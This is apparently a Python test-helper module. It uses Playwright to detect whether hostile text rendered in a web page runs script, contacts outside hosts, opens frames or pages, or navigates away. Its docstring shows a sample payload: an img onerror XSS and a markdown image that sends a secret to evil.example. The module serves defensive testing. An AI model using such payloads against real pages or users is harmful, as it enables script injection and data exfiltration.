"""What hostile text achieves in a page: code that runs, hosts that are asked, pages that open.

Hostile text calls ``__omniHit("name")`` wherever it would run, and asks for addresses that contain
``omni-hit``; or for any other host::

    with Hits(page) as hits:
        show('<img src=x onerror="__omniHit(1)"> ![](https://evil.example/?secret)')
        hits.assert_none()
"""

from __future__ import annotations

from pathlib import Path
from typing import TYPE_CHECKING
from urllib.parse import urldefrag, urlsplit

if TYPE_CHECKING:
    from collections.abc import Sequence
    from types import TracebackType

    from playwright.sync_api import ConsoleMessage, Frame, Page, Request, WebSocket

HITS_SCRIPT = Path(__file__).with_name("hits.js").read_text(encoding="utf-8")
HIT_WORD = "omni-hit"
LOCAL_HOSTS = ("127.0.0.1", "localhost")
LOCAL_SCHEMES = ("data", "blob", "about")


class Hits:
    """Counts what hostile text achieves in a page, from now on until `stop`.

    It works at once in the document that is there, in all its frames, and after a reload. A request
    is a hit when its host is another machine, or when its address contains ``omni-hit``; so is a
    frame, a page that opens, and a page that goes elsewhere (a reload does not).

    Parameters
    ----------
    page
        Where to look.
    expected
        Beginnings of addresses that are no hit, e.g. `voila.ICONS`.

    Attributes
    ----------
    found
        What was seen, in order, e.g. ``"script 1"`` or ``"request https://evil.example/"``.
    """

    def __init__(self, page: Page, *, expected: Sequence[str] = ()) -> None:
        self.found: list[str] = []
        self._page = page
        self._expected = tuple(expected)
        page.add_init_script(HITS_SCRIPT)
        for frame in page.frames:
            frame.evaluate(HITS_SCRIPT)
        page.on("console", self._note_script)
        page.on("frameattached", self._note_frame)
        page.on("request", self._note_request)
        page.on("websocket", self._note_socket)
        page.on("framenavigated", self._note_navigation)
        page.context.on("page", self._note_page)

    def __enter__(self) -> Hits:
        return self

    def __exit__(
        self,
        kind: type[BaseException] | None,
        error: BaseException | None,
        traceback: TracebackType | None,
    ) -> None:
        self.stop()

    def forget(self) -> None:
        """Begin anew."""
        self.found.clear()

    def assert_none(self) -> None:
        """Wait until every image has come or failed, then fail when there was a hit."""
        if not self.found:
            self._page.evaluate(SETTLE)
        assert not self.found, "hostile text got through: " + "; ".join(self.found)

    def stop(self) -> None:
        """Stop looking."""
        self._page.remove_listener("console", self._note_script)
        self._page.remove_listener("frameattached", self._note_frame)
        self._page.remove_listener("request", self._note_request)
        self._page.remove_listener("websocket", self._note_socket)
        self._page.remove_listener("framenavigated", self._note_navigation)
        self._page.context.remove_listener("page", self._note_page)

    def _note_script(self, message: ConsoleMessage) -> None:
        if message.text.startswith("__omniHit "):
            self.found.append(message.text.removeprefix("__omniHit "))

    def _note_request(self, request: Request) -> None:
        if request.url.startswith(self._expected):
            return
        if self._is_hit(request.url):
            self.found.append(f"request {request.url[:200]}")
        elif self._leaves(request):
            self.found.append(f"the page goes to {request.url[:200]}")

    def _leaves(self, request: Request) -> bool:
        if not request.is_navigation_request() or request.frame != self._page.main_frame:
            return False
        # `page.url` is still the address that the page leaves.
        return urldefrag(request.url).url != urldefrag(self._page.url).url

    def _note_socket(self, socket: WebSocket) -> None:
        if self._is_hit(socket.url):
            self.found.append(f"socket {socket.url[:200]}")

    def _note_navigation(self, frame: Frame) -> None:
        if frame == self._page.main_frame and urlsplit(frame.url).hostname not in LOCAL_HOSTS:
            self.found.append(f"the page went to {frame.url[:200]}")

    def _note_frame(self, frame: Frame) -> None:
        # A sandboxed frame is a process of its own: what runs and asks in it may not be seen.
        self.found.append(f"a frame {frame.name}".rstrip())

    def _note_page(self, page: Page) -> None:
        self.found.append(f"a new page {page.url[:200]}")

    def _is_hit(self, url: str) -> bool:
        address = urlsplit(url)
        is_local = address.scheme in LOCAL_SCHEMES or address.hostname in LOCAL_HOSTS
        return HIT_WORD in url.partition(",")[0] if is_local else True


# Two frames after the last image: what would run on load or on error has run.
SETTLE = """async () => {
  const waiting = [...document.images]
    .filter((image) => !image.complete && image.loading !== "lazy");
  const ended = (image) => new Promise((resolve) => {
    image.addEventListener("load", resolve);
    image.addEventListener("error", resolve);
    setTimeout(resolve, 3000);
  });
  await Promise.all(waiting.map(ended));
  for (let i = 0; i < 2; i++) {
    await new Promise((resolve) => setTimeout(() => requestAnimationFrame(resolve), 0));
  }
}"""
